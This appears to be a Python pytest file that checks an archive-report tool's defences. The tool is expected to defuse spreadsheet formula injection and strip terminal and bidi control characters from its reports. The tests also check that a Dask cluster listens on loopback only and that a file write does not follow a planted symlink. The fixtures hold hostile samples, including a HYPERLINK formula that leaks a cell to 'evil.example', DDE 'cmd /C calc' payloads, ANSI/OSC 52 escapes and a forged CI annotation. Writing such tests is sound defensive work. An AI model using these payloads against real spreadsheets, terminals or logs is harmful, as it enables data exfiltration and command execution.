"""Issue 16, points 3, 5 and 7 for archives: ``archive-report`` prints no control from the
records, its CSV holds no live formula, and a ``--dask local:N`` cluster listens on loopback only.
"""
from __future__ import annotations

import argparse
import csv
import io
import json
import re

import pytest

from attribution import archive as ar
from attribution.commands import archive_report
from attribution.report import safe

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1", "-2+3", "\t=1+1", "\uff1d1+1"]
ESCAPES = "\x1b[2J\x1b]52;c;ZXZpbA==\x07\x9b31m\u202e\rAudit passed"
FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f" + safe.BIDI + "]")


def _record(i: int, publisher: str) -> dict:
    speakers = [{"id": "s1", "name": f"Linda{ESCAPES} Park", "kind": "person", "title": None,
                 "role": "mayor", "affiliation": FORMULAS[0], "mentions": []},
                {"id": "s2", "name": "=cmd|' /C calc'!A0", "kind": "anonymous", "title": None,
                 "role": None, "affiliation": f"State{ESCAPES}", "mentions": []}]
    attrs = [{"id": "a1", "type": "direct", "speaker": "s1"}, {"id": "a2", "type": "indirect", "speaker": "s2"}]
    findings = [{"rule": "anonymous-source", "severity": "warning", "message": "m", "start": 0, "end": 1,
                 "line": 1, "column": 1, "attributions": ["a2"]}]
    return {"id": f"d{i}", "path": f"desk/d{i}.txt", "model": "m-1", "publisher": publisher,
            "publication_date": "2024-01-02", "attributions": attrs, "speakers": speakers,
            "findings": findings}


@pytest.fixture()
def results(tmp_path):
    out = tmp_path / "results"
    out.mkdir()
    records = [_record(i, p) for i, p in enumerate(FORMULAS + [f"Wire{ESCAPES}"])]
    records.append({"id": f"bad{ESCAPES}", "path": "bad.txt", "error": f"cannot read{ESCAPES}"})
    (out / ar.DOCUMENTS).write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    return out


def _report(results, fmt, capsys, tmp_path):
    args = argparse.Namespace(results=str(results), format=fmt, chart=str(tmp_path / "c.png"))
    assert archive_report.run(args) == 0
    return capsys.readouterr()


def test_csv_has_no_formula_cell(results, capsys, tmp_path):
    out = _report(results, "csv", capsys, tmp_path).out
    rows = list(csv.reader(io.StringIO(out)))
    cells = [c for row in rows for c in row]
    assert all(len(row) == 4 for row in rows)
    for c in cells:
        assert not c.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), c
        assert FORBIDDEN.search(c) is None, repr(c)
    keys = {row[1] for row in rows}
    # the publisher is still there to read, as text
    assert "'" + FORMULAS[0] in keys and "'@SUM(1+1)*cmd|' /C calc'!A0" in keys and "'+1+1" in keys
    assert "'-2+3" in keys and "'\uff1d1+1" in keys
    assert "'=1+1" in keys  # the leading tab is whitespace: dropped, and the formula is still text
    # numbers stay numbers
    assert ["overview", "", "documents", "8"] in rows


def test_text_and_json_print_no_control(results, capsys, tmp_path):
    text = _report(results, "text", capsys, tmp_path)
    assert FORBIDDEN.search(text.out) is None, repr(FORBIDDEN.search(text.out))
    assert FORBIDDEN.search(text.err) is None
    assert "\u241b[2J" in text.out  # shown, inert
    raw = _report(results, "json", capsys, tmp_path).out
    assert FORBIDDEN.search(raw) is None
    summary = json.loads(raw)
    assert any(g["group"] == f"Wire{ESCAPES}" for g in summary["groups"])  # the data are exact


def test_notices_on_stderr_are_one_line(capsys):
    ar._log(f"warning: docs.jsonl{ESCAPES}\n::error file=x::forged")
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and FORBIDDEN.search(err) is None
    assert err.startswith("attribution: warning: docs.jsonl\u241b[2J")


def test_chart_labels_are_inert(tmp_path, capsys):
    pytest.importorskip("matplotlib")
    import warnings

    out = tmp_path / "results"
    out.mkdir()
    records = [_record(0, "$\\frac{1}{$ Daily" + ESCAPES), _record(1, "Wire")]
    (out / ar.DOCUMENTS).write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        _report(out, "text", capsys, tmp_path)  # a bad mathtext label would raise here
    assert (tmp_path / "c.png").read_bytes()[:4] == b"\x89PNG"
    assert not [w for w in caught if FORBIDDEN.search(str(w.message))]


# ------------------------------------------------------------------ the Dask dashboard

class _Stop(OSError):
    pass


def _cluster_kwargs(monkeypatch) -> dict:
    distributed = pytest.importorskip("distributed")
    seen = {}

    def fake_cluster(**kwargs):
        seen.update(kwargs)
        raise _Stop("not started in this test")

    monkeypatch.setattr(distributed, "LocalCluster", fake_cluster)
    with pytest.raises(ar.ArchiveError):
        ar._run_dask(iter([]), ar.Options(), lambda done: None, ar.RunStats("dask", 0), "local:1")
    return seen


def test_local_cluster_binds_to_loopback(monkeypatch):
    monkeypatch.delenv("ATTRIBUTION_DASK_DASHBOARD", raising=False)
    kw = _cluster_kwargs(monkeypatch)
    assert kw["host"] == "127.0.0.1"
    assert kw["dashboard_address"] == "127.0.0.1:8787"


def test_dashboard_elsewhere_only_when_asked(monkeypatch):
    monkeypatch.setenv("ATTRIBUTION_DASK_DASHBOARD", "0.0.0.0:9999")
    kw = _cluster_kwargs(monkeypatch)
    assert kw["dashboard_address"] == "0.0.0.0:9999" and kw["host"] == "127.0.0.1"


@pytest.mark.slow
def test_a_real_local_cluster_listens_on_loopback_only(monkeypatch):
    pytest.importorskip("distributed")
    psutil = pytest.importorskip("psutil")
    monkeypatch.delenv("ATTRIBUTION_DASK_DASHBOARD", raising=False)
    seen: dict = {}

    def on_start(link, nworkers):
        me = psutil.Process()
        listening = []
        for proc in [me, *me.children(recursive=True)]:
            try:
                conns = proc.net_connections(kind="inet")
            except (psutil.Error, OSError):
                continue
            listening += [c.laddr for c in conns if c.status == psutil.CONN_LISTEN]
        seen.update(link=link, listening=listening)

    stats = ar.RunStats("dask", 0)
    ar._run_dask(iter([]), ar.Options(), lambda done: None, stats, "local:1", on_start=on_start)
    assert seen["link"].startswith("http://127.0.0.1:")
    assert seen["listening"], "the scheduler and the dashboard listen"
    assert {addr.ip for addr in seen["listening"]} <= {"127.0.0.1", "::1"}, seen["listening"]


def test_summary_write_does_not_follow_a_planted_link(tmp_path):
    import os

    out = tmp_path / "results"
    out.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    (out / f".{ar.SUMMARY}.tmp{os.getpid()}").symlink_to(victim)  # the name the old code used
    ar._atomic_write(out / ar.SUMMARY, '{"version": 1}\n')
    assert victim.read_text() == "precious\n"
    assert (out / ar.SUMMARY).read_text() == '{"version": 1}\n' and not (out / ar.SUMMARY).is_symlink()
